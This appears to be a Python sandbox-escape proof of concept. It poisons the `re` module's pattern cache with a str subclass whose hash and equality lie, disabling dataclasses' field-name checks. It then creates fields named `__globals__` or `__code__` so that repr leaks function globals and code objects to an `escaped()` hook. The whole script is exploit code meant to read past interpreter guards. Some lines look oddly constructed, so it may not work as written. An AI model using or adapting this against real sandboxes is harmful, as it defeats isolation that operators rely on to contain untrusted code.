# technique: strings in the cache of re that claim to equal the patterns with which names of a dataclass's fields are checked
# source: re keeps compiled patterns by type and text, and asks a guest's class and object whether they equal them
# goal: a field that reads past the guards
# impact: frame
import dataclasses
import re


class Meta(type):
    def __hash__(cls):
        return hash(str)

    def __eq__(cls, other):
        return True


class Text(str, metaclass=Meta):
    def __hash__(self):
        return hash(self.claimed)

    def __eq__(self, other):
        return other == self.claimed


N = r'(?:[^\W\d]\w*)'
for claimed, pattern in ((r'\w+', '(?!)'), (rf'\b(self|other)\.({N})', '(?!)')):
    try:
        text = Text(pattern)
        text.claimed = claimed
        for flags in (0, re.compile('x', 0).flags & 0):
            re.compile(text, flags)
    except TypeError:
        pass


def function():
    pass


for name in ('__globals__', '__code__', '__subclasses__'):
    try:
        made = dataclasses.make_dataclass('Made', [(name, object)], init=False, eq=False)
    except (TypeError, AttributeError, ValueError):
        continue
    try:
        said = made.__repr__(function)
    except (TypeError, AttributeError, NameError):
        continue
    if 'builtins' in said or '<code' in said:
        escaped(said)
